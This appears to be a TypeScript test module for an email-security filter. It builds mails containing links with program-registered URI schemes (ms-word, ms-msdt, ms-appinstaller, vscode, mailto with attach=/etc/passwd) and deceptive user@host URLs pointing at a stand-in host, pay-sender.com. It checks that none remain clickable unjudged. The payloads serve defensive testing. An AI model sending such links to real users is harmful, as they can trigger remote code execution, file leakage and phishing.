/** Links in plain text with schemes that nobody thinks of: an installed program does. */
import { type Delivered, type MailCase, mailAttack } from './attack-class.ts';
import { shownTexts, unjudgedLink } from './clickable.ts';
import { utf8Mail } from './utf8-mail.ts';

const WITH_SLASHES = [
  'steam',
  'vnc',
  'ldap',
  'ssh',
  'rdp',
  'mms',
  'zoommtg',
  'msteams',
  'tg',
  'slack',
  'itms-services',
  'intent',
  'smb',
  'afp',
  'nfs',
  'sftp',
  'telnet',
  'gopher',
  'ms-word',
  'ms-settings',
  'onenote',
  'search-ms',
  'vscode',
  'spotify',
  'discord',
  'com.epicgames.launcher',
  'webdavs',
  'x-unheard-of',
  'a1+b-c.d',
  'MS-Excel',
  'zzz',
];
const WITHOUT_SLASHES = [
  'ms-word:ofe|u|https://pay-sender.com/x.docm',
  'ms-excel:ofv|u|https://pay-sender.com/x.xlsm',
  'ms-msdt:/id PCWDiagnostic',
  'search-ms:query=invoice&crumb=location:pay-sender.com',
  'ms-officecmd:{"id":3}',
  'ms-appinstaller:?source=https://pay-sender.com/x.msix',
  'onenote:https://pay-sender.com/x.one',
  'zoommtg:join?confno=1',
  'msteams:/l/meetup-join/x',
  'steam:run/42',
  'itms-services:?action=download-manifest&url=x',
  'intent:#Intent;scheme=http;end',
  'magnet:?xt=urn:btih:c12fe1c06bba254a',
  'telnet:pay-sender.com',
  'ssh:root@pay-sender.com',
  'rdp:full%20address=s:pay-sender.com',
  'mms:pay-sender.com/x',
  'vscode:extension/evil.ext',
  'spotify:track:abc',
  'slack:open?team=x',
  'ldap:cn=x',
  'microsoft-edge:pay-sender.com',
  'search:query=x&crumb=location:pay-sender.com',
  'ms-settings:network',
  'ms-search:x',
  'x-apple-reminderkit:REMCDReminder',
  'web+mail:x',
  'vnc:pay-sender.com',
  'discord:invite/x',
  'mailto:ana@good-shop.com?attach=/etc/passwd',
  'MAILTO:?subject=x&attachment=C:\\x',
  'mailto:ana@good-shop.com?%61ttach=/etc/passwd',
  `mailto:ana@good-shop.com?body=${'x'.repeat(400)}&attach=/etc/passwd`,
];
/** No URL to the parser of a browser, and something to open to the program that registered the scheme. */
const UNPARSABLE = [
  'file://bank@pay-sender.com/x',
  'file://pay-sender.com:80/x',
  'file:\\\\bank@pay-sender.com\\x',
  'file://pay-sender.com@SSL/x',
  'ed2k://|file|x',
  'foo://pay-sender.com|x',
  'vnc://pay-sender.com:99999/x',
  'ssh://pay-sender.com^x',
  '\\\\bank.example@pay-sender.com\\x',
  'mailto:ana@pay-sender.com?subject=x&attach=c:\\x',
  'mailto:?attachment=/etc/passwd',
];
const CONTEXTS: readonly (readonly [string, (url: string) => string])[] = [
  ['alone', (url) => url],
  ['in a sentence', (url) => `Please see ${url}, and answer.`],
  ['in brackets', (url) => `Please see (${url}).`],
  ['in square brackets', (url) => `Please see [${url}].`],
  ['in angle brackets', (url) => `Please see <${url}> now`],
  ['behind a colon', (url) => `Link:${url}`],
  ['in quotes', (url) => `"${url}"`],
  ['behind a comma', (url) => `one,${url};two`],
  ['behind a letter of another script', (url) => `见${url}`],
];
const HOSTS = [
  'www.bank-shop.com@pay-sender.com/x',
  'WWW.bank-shop.com@pay-sender.com',
  'www.bank-shop.com:80@pay-sender.com/',
  'ftp.bank-shop.com@pay-sender.com',
  'www.bank.example@pay.sender.example/p',
  'ftp.bank.example@pay.sender.example/p',
  'www.intranet@pay-sender.com/x',
  'www.bank-shop.com:pw@pay-sender.com',
  'www.bank-shop.com;x@pay-sender.com/x',
  'www.10.1.2.3@pay-sender.com/x',
  'www.bank-shop.com|x@pay-sender.com/x',
  'www.bank-shop.com%40pay-sender.com/x',
  'http://www.bank-shop.com\uff20pay-sender.com/x',
  'http://www.bank-shop.com\ufe6bpay-sender.com/x',
  'http:www.bank-shop.com@pay-sender.com',
  'http:/www.bank-shop.com@pay-sender.com/',
  'http:\\\\www.bank-shop.com@pay-sender.com/',
  'http:\\/\\/www.bank-shop.com@pay-sender.com/',
  'ｈｔｔｐ://www.bank-shop.com@pay-sender.com/',
];

function* cases(): Generator<MailCase> {
  for (const [index, scheme] of WITH_SLASHES.entries())
    for (const [context, write] of [CONTEXTS[0], CONTEXTS[1 + (index % (CONTEXTS.length - 1))]].flatMap((each) =>
      each ? [each] : [],
    ))
      yield { id: `${scheme}:// ${context}`, email: utf8Mail({ text: write(`${scheme}://pay-sender.com/x`) }) };
  for (const [context, write] of CONTEXTS)
    for (const url of [...WITHOUT_SLASHES, ...HOSTS, ...UNPARSABLE].filter(
      (_, index) => (index + context.length) % 3 === 0 || context === 'alone',
    ))
      yield { id: `${url} ${context}`, email: utf8Mail({ text: write(url) }) };
  for (const url of WITHOUT_SLASHES)
    yield {
      id: `${url} in a page`,
      email: utf8Mail({ html: `<html><body><p>See ${url.replaceAll('&', '&amp;')} now</p></body></html>` }),
    };
}

const PROSE = [
  'ftp = FTP(host); ftp.login(user); ftp.quit(); see www.shop.example or www.shop.example;ann@shop.example, or 127.0.0.1:3000',
  '<a href="https://www.good-shop.com">ana@good-shop.com</a> and <https://www.good-shop.com><mailto:ana@good-shop.com>',
  'Note: see below. Re:foo and Fwd:bar; at 12:30, ratio 3:2, PS:thanks, Subject:offer, TODO:fix, cc:ana, Datum:morgen',
  'C:\\dir\\file.txt and D:\\Program Files\\x; c:/temp; ..\\up\\file; ~/.ssh/config; /usr/lib/x; ./run',
  'std::string s; std::vector<int> v; Foo::Bar::baz(); a ? b:c; key:value; {"a":1,"b":"c:d"}; x = y ? z:w;',
  'Smile :/ :-) :D ;-) :\\ :o :P xD',
  'The protocols http: and https: are not links, nor is the word http or ftp:, nor mailto: alone.',
  'at com.acme.Foo.bar(Foo.java:12) ~[app-1.2.3.jar:na] caused by: java.io.IOException: 404',
  '2026-11-20T12:00:00Z INFO  [main] id:42 level:warn file:main status:ok map:none line:17 data:5 message:hello shell:bash search:off ssh:22',
  'jdbc:mysql://localhost:3306/db s3://bucket/key postgres://localhost/x redis://localhost:6379 git+https://localhost/x',
  '// a comment, # another, /* third */, <!-- no --> and -- fourth; if (a // b) {}',
  'Regular: \\d+\\w*\\s /\\/foo\\/bar/ [a-z]+ \\\\hline \\\\ \\n %PATH% $HOME',
  'Write to mailto:ana@good-shop.com or mailto:ana@good-shop.com?subject=Hello%20Ana&body=See%20attachment, please.',
  'Call me: tel:+49301234567, mail: ana@good-shop.com, skype:ana.example or sip:ana@good-shop.com',
  'https://www.good-shop.com/a, (https://www.good-shop.com/b), "https://www.good-shop.com/c". https://www.good-shop.com/d!',
  'Siehe https://www.good-shop.com/ä?q=ö; oder https://www.good-shop.com/x. Grüße',
  'Voir « https://www.good-shop.com/e » et https://www.good-shop.com/f\u00a0; merci',
  'Véase https://www.good-shop.com/g, ¿no? ¡https://www.good-shop.com/h!',
  '请看https://www.good-shop.com/i。谢谢，再见。',
  '「https://www.good-shop.com/j」をご覧ください。ＡＢＣ１２３：以上',
  'Смотрите https://www.good-shop.com/k, пожалуйста. Время:12:30',
  'انظر https://www.good-shop.com/l، شكرا',
  'ראו https://www.good-shop.com/m, תודה',
  'Zobacz https://www.good-shop.com/n; dziękuję :) – „https://www.good-shop.com/o”',
  'Footnotes [1] https://www.good-shop.com/p [2]: https://www.good-shop.com/q | a | b | {c} ^d `e`',
];

function* ordinary(): Generator<MailCase> {
  for (const [index, text] of PROSE.entries()) yield { id: `prose ${index}`, email: utf8Mail({ text }) };
}

async function judge(_: MailCase, { message, ledger }: Delivered): Promise<string | null> {
  const link = await unjudgedLink(message, ledger);
  return link === null ? null : `${link} can be clicked, and nobody judged it`;
}

async function judgeOrdinary({ email }: MailCase, { message }: Delivered): Promise<string | null> {
  const [before, after] = await Promise.all(
    [Buffer.from(email), message].map(async (each) => (await shownTexts(each))[0]?.text.trim()),
  );
  return before === after ? null : `the text was changed: ${after}`;
}

export const textSchemes = mailAttack({
  name: 'text-schemes',
  title: 'a link in a text with a scheme that an installed program registers',
  cases,
  judge,
  ordinary,
  judgeOrdinary,
});
